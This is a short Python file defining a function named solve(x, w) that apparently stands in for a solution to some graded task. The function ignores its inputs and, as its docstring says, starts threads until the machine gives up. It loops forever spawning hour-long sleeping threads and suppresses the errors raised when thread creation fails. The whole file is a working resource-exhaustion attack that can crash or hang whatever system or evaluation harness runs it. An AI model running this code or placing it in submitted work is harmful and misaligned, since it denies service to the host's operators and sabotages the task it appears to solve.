"""Start threads until the machine gives up."""

import threading
import time



def solve(x, w):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        except RuntimeError:
            pass
